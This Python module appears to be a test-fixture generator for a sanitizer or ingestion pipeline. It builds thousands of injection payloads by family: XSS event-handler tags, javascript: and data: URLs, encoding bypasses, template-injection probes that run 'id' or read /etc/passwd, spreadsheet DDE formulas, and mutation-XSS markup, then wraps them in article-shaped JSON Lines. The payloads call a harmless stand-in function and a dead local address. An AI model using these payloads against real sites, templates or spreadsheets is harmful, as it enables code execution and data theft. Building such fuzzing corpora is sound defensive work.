"""Texts that try to run something where they are shown, by family: thousands are made of what such texts are made of.

Each calls ``ran(1)``, asks a machine that is not ours (`ELSEWHERE`), or would be taken for something other than text.
The families are those of public lists of such payloads; the texts are put together here.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from itertools import product

ELSEWHERE = "http://127.0.0.1:9/x"
"""Where nobody listens; whoever asks it has been led astray."""

_RUN = "ran(1)"
_FIRING = (
    "img src=x onerror", "image src=x onerror", "svg onload", "body onload", "input autofocus onfocus",
    "details open ontoggle", "video src=x onerror", "audio src=x onerror", "object data=x: onerror",
    "marquee onstart", "select autofocus onfocus", "textarea autofocus onfocus", "iframe onload", "style onload",
    "link rel=stylesheet href=x onerror", "a id=x tabindex=1 autofocus onfocus", "script src=x onerror",
    "video><source onerror", "x style=animation-name:x onanimationstart", "button autofocus onfocus",
)  # fmt: skip
"""Tags with an attribute that runs without anybody's doing."""
_BETWEEN = (" ", "/", "\t", "\n", "\f", "/ /")
_QUOTED = ("{}", '"{}"', "'{}'", "`{}`")
_SEEDS = (
    "<script>ran(1)</script>", "<img src=x onerror=ran(1)>", "<svg onload=ran(1)>", "<iframe src=javascript:ran(1)>",
    "<a href=javascript:ran(1)>truce</a>", f"<img src={ELSEWHERE}>", "<ScRiPt>ran(1)</sCrIpT>",
    f"<script src={ELSEWHERE}></script>", "<iframe srcdoc='<script>parent.ran(1)</script>'>",
)  # fmt: skip
"""What the families that open a way put after it."""
_CLOSING = (
    '"', "'", "`", '">', "'>", "`>", '"/>', '" ', "' ", "--><", "-->", "]]>", "*/", '\\"', "\\'", '\\">', "});", "';",
    '";', "&quot;>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</xmp>",
    "</noembed>", "</iframe>", "</noframes>", "</svg>", "</math>", "</select>", "</a>", "</button>", "</code></pre>",
    "</table>", "<!--", "<![CDATA[", "<!DOCTYPE x [", "<?", "<plaintext>", "<textarea>", "<title>", "<style>",
    "<noscript><p title='",
)  # fmt: skip
"""What might end, or begin, the place where a text is put."""
_SCHEMES = (
    "javascript:ran(1)", "JaVaScRiPt:ran(1)", "\x01javascript:ran(1)", " javascript:ran(1)", "java\tscript:ran(1)",
    "java\nscript:ran(1)", "javascript\t:ran(1)", "javascript:%72an(1)", "javascript://%0aran(1)",
    "jav&#x09;ascript:ran(1)", "&#106;avascript:ran(1)", "javascript&colon;ran(1)", "&#x6A&#x61vascript:ran(1)",
    "data:text/html,<script>parent.ran(1)</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran(1)'/>", "vbscript:ran(1)",
    "blob:ran(1)", "file:///etc/passwd", "view-source:javascript:ran(1)", "feed:javascript:ran(1)",
    "\u2028javascript:ran(1)", "javascript\u200b:ran(1)", "ｊavascript:ran(1)", "//127.0.0.1:9/x", "\\\\127.0.0.1:9\\x",
    "/\\127.0.0.1:9/x", ELSEWHERE, "http:127.0.0.1:9", "https://user:pass@127.0.0.1:9/",
)  # fmt: skip
_CARRIED = (
    "{}", "<a href=\"{}\">truce</a>", "<a href='{}'>truce</a>", "<iframe src=\"{}\"></iframe>",
    "<form action=\"{}\"><button>truce</button></form>", "<button formaction=\"{}\" form=join>truce</button>",
    "<object data=\"{}\"></object>", "<embed src=\"{}\">", "<base href=\"{}\">", "<link rel=stylesheet href=\"{}\">",
    "<svg><a xlink:href=\"{}\"><text y=9>truce</text></a></svg>", "<svg><use href=\"{}\"/></svg>",
    "<math href=\"{}\">truce</math>", "<meta http-equiv=refresh content=\"0;url={}\">", "<img src=\"{}\">",
    "<img srcset=\"{} 2x\">", "<video poster=\"{}\"></video>", "<body background=\"{}\">", "[truce]({})",
    "![truce]({})", "<{}>", "[truce]: {}", "[[{}|truce]]", "[{} truce]", "{{{{{}|truce}}}}",
)  # fmt: skip
_INSIDE = (
    "\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u200b", "\u200d", "\u00ad", "\ufeff", "\u2060", "\u0000",
    "\u0001", "\u0008", "\u001b[2J", "\u007f", "\u0085", "\u2028", "\u2029", "\ufffe", "\U000e0001", "\u0338", "\ud800",
    "\r\nSet-Cookie: x=1\r\n\r\n", "%00", "\\x00",
)  # fmt: skip
_MADE_OF = (
    "{{{{{}}}}}", "{{% {} %}}", "{{%- set x = {} -%}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "<? {} ?>", "@({})",
    "*{{{}}}", "[[${{{}}}]]", "{{{{= {}}}}}", "{{{{{{{}}}}}}}", "{{php}}{}{{/php}}", "%{{{}}}",
)  # fmt: skip
_ASKED = (
    "7*7", _RUN, "constructor.constructor('ran(1)')()", "''.__class__.__mro__[1].__subclasses__()", "config.items()",
    "self._TemplateReference__context", "lipsum.__globals__.os.popen('id').read()", "label.__globals__",
    "request.application.__globals__", "cycler.__init__.__globals__", "'<script>ran(1)</script>'|safe",
    "range(999999999)|list", "include('/etc/passwd')", "undefined_name",
)  # fmt: skip
_SHEETS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", ";=", ",=", "'=", '"=', "|", "%=")
_FORMULAS = (
    "cmd|'/C calc'!A0", f"HYPERLINK(\"{ELSEWHERE}\",\"truce\")", f"IMPORTXML(\"{ELSEWHERE}\",\"//a\")",
    "SUM(1+1)*cmd|' /C calc'!A0", f"WEBSERVICE(\"{ELSEWHERE}\")", "DDE(\"cmd\";\"/C calc\")", "1+1",
)  # fmt: skip
_MARKED = (
    "# {}", "> {}", "- {}", "1. {}", "```\n{}\n```", "`{}`", "    {}", "***\n{}", "---\n{}\n---", "| {} |\n|---|",
    "$${}$$", "{}\n===", "<!-- {} -->", "<details>{}", "[^1]: {}", "&lt;{}&gt;", "\\{}", "<https://x.example/{}>",
    "== {} ==", "<nowiki>{}</nowiki>",
)  # fmt: skip
_STYLED = (
    f"background:url({ELSEWHERE})", f"background:image-set('{ELSEWHERE}' 1x)", f"list-style:url({ELSEWHERE})",
    f"cursor:url({ELSEWHERE}),auto", f"content:url({ELSEWHERE})", f"mask:url({ELSEWHERE})", "width:expression(ran(1))",
    "behavior:url(#default#time2)", "-moz-binding:url(x)", "position:fixed;inset:0;z-index:9999",
    f"@import '{ELSEWHERE}'", "font-family:'x';}*{display:none",
)  # fmt: skip
_CONFUSED = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=ran(1)&gt;\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran(1)>",
    "<svg></p><style><a id=\"</style><img src=x onerror=ran(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(1)>",
    "<svg><script>ran&#40;1)</script>", "<noscript><p title=\"</noscript><img src=x onerror=ran(1)>\">",
    "<template><script>ran(1)</script></template>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=ran(1)>\">",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.ran(1)</script>\"></foreignObject></svg>",
    "<svg><animate onbegin=ran(1) attributeName=x dur=1s>", "<svg><set onbegin=ran(1) attributeName=x>",
    "<table><td><form><input name=attributes>", "<form id=document><input name=cookie>",
    "<a id=location href=javascript:ran(1)>", "<img name=getElementById>",
    "<x contenteditable autofocus onfocus=ran(1)>", "<script>/*", "*/ran(1)//</script>",
    "<script type=module>ran(1)</script>", "<script>import('data:text/javascript,ran(1)')</script>",
    "<a href=# ping=" + ELSEWHERE + ">truce</a>", "<portal src=" + ELSEWHERE + ">", "<img src=x:x onerror\x0b=ran(1)>",
    "<input type=image src=" + ELSEWHERE + ">",
)  # fmt: skip


def families() -> dict[str, list[str]]:
    """Every payload, each once, by the name of its family."""
    return {
        "tags": [
            f"<{form.replace(' ', between)}={quoted.format(_RUN)}>"
            for form, between, quoted in product(_FIRING, _BETWEEN, _QUOTED)
        ],
        "closings": [f"{closing}{seed}" for closing, seed in product(_CLOSING, _SEEDS)],
        "attributes": [
            f"{quote}{between}{form.partition(' ')[2] or 'onfocus'}={_RUN} x={quote}"
            for quote, between, form in product("\"'`", _BETWEEN[:4], _FIRING)
        ],
        "addresses": [carrier.format(scheme) for scheme, carrier in product(_SCHEMES, _CARRIED)],
        "entities": [way for seed in _SEEDS for way in _written(seed)],
        "characters": [way for seed, held in product(_SEEDS[:5], _INSIDE) for way in _held(seed, held)],
        "templates": [form.format(each) for form, each in product(_MADE_OF, _ASKED)],
        "sheets": [f"{first}{formula}" for first, formula in product(_SHEETS, _FORMULAS)],
        "marks": [form.format(seed) for form, seed in product(_MARKED, _SEEDS)],
        "styles": [
            form.format(style)
            for form, style in product(('<p style="{}">', '" style="{}" x="', "<style>*{{{}}}</style>"), _STYLED)
        ],
        "confused": list(_CONFUSED),
    }  # fmt: skip


def some(step: int = 1, first: int = 0) -> list[str]:
    """Every `step`-th payload of each family from the `first` on: all families are among them."""
    found = [each for family in families().values() for each in family[first % max(1, min(step, len(family))) :: step]]
    return list(dict.fromkeys(found))


def lines(payloads: Sequence[str]) -> str:
    """JSON Lines, an article a payload: it is title, text, outlet, author and address, in both languages, on topic."""
    return "\n".join(
        json.dumps(
            {
                "title": f"{payload} truce {number}",
                "text": f"A truce: {payload} {number}.\n\n双方同意停火{payload}{number}。\n{payload}",
                "source": payload,
                "author": payload,
                "url": payload if number % 2 else f"javascript:ran({number})",
                "date": "2025-06-03",
            }
        )
        for number, payload in enumerate(payloads)
    )


def _written(seed: str) -> Iterator[str]:
    """A text as others write it: by its references, doubly, by its escapes, by characters that look alike."""
    yield "".join(f"&#{ord(each)};" for each in seed)
    yield "".join(f"&#x{ord(each):x};" for each in seed)
    yield "".join(f"&#{ord(each):07}" for each in seed)
    named = seed.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    yield named
    yield named.replace("&", "&amp;")
    yield seed.replace("<", "&lt").replace(">", "&gt")
    yield seed.replace("<", "\\u003c").replace(">", "\\u003e")
    yield seed.replace("<", "\\x3c").replace(">", "\\x3e")
    yield seed.replace("<", "%3C").replace(">", "%3E")
    yield seed.replace("<", "%253C").replace(">", "%253E")
    yield seed.replace("<", "+ADw-").replace(">", "+AD4-")
    yield "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in seed)
    yield seed.replace("<", "＜").replace(">", "＞")
    yield seed.replace("<", "‹").replace(">", "›")
    yield seed.replace("<", "¼").replace(">", "¾")
    yield seed.replace("<", "<<").replace(">", ">>")


def _held(seed: str, held: str) -> Iterator[str]:
    """A text with something that is not seen around it, in its tag, and after its first sign."""
    yield f"{held}{seed}{held}"
    yield seed[:4] + held + seed[4:]
    yield seed[0] + held + seed[1:]
